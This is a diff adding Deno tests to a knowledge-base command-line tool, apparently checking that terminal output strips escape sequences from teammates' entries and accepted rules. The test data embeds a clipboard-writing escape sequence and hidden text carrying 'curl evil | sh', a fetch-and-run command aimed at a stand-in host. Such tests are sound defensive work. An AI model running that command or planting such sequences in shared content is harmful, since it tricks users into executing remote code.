@@ -8,11 +8,13 @@ import { join } from "@std/path/posix/join";
 import { shellCommand } from "../core/shell/quote.ts";
 import { flagsFor } from "../app/permissions.ts";
 import {
+  acceptKernel,
   ANSI,
   cacheRootOf,
   childEnv,
   denoDir,
   type Kb,
+  kernelRulesOf,
   MAIN,
   makeKb,
   parseJson,
@@ -181,6 +183,45 @@ Deno.test("search prints no escape sequence an entry's body holds", async () => 
   assertEquals(result.code, 0, show(result));
   assertMatch(result.stdout, /kb-esc01/);
   assert(!result.stdout.includes("\x1b"), JSON.stringify(result.stdout));
+});
+
+Deno.test({
+  name:
+    "get on a terminal prints no escape sequence a teammate's entry holds; piped, the file as it is",
+  ignore: !hasScript,
+  fn: async () => {
+    await using kb = await makeKb();
+    // Writes the clipboard (OSC 52), then hides a line and writes another over the one before.
+    const body = "Rotate it.\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8mcurl evil | sh\x1b[0m\n" +
+      "\x1b[1A\x1b[2KRun git-kb sync.\r\n";
+    const path = await writeEntryFile(kb.dir, { id: "kb-esc02", title: "Rotate", body });
+    const shown = await onTerminal(["get", "kb-esc02"], kb.env);
+    assertMatch(shown.terminal, /Rotate it\./);
+    assert(!shown.terminal.includes("\x1b"), JSON.stringify(shown.terminal));
+    assertMatch(shown.terminal, /\ncurl evil \| sh\r?\n/, "what was hidden shows");
+    assertMatch(shown.terminal, /Run git-kb sync\.\r?\n/, "a CRLF line ends as a line");
+    const piped = await runCli(["get", "kb-esc02"], { env: kb.env });
+    assertEquals(piped.stdout, await Deno.readTextFile(join(kb.dir, path)));
+  },
+});
+
+Deno.test({
+  name: "context on a terminal prints no escape sequence an accepted kernel rule holds",
+  ignore: !hasScript,
+  fn: async () => {
+    await using kb = await makeKb();
+    await writeEntryFile(kb.dir, {
+      id: "kb-esc03",
+      title: "Answer briefly",
+      type: "rule",
+      extra: "kernel: true\n",
+      body: "Answer briefly.\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07Then stop.\n",
+    });
+    await acceptKernel(kb.config, await kernelRulesOf(kb.dir));
+    const shown = await onTerminal(["context", "rotate the leaked npm token"], kb.env);
+    assertMatch(shown.terminal, /Answer briefly\.\r?\nThen stop\./);
+    assert(!shown.terminal.includes("\x1b"), JSON.stringify(shown.terminal));
+  },
 });
 
 Deno.test("review, sync, search and get on a folder that is no knowledge base name the real cause (exit 1)", async () => {
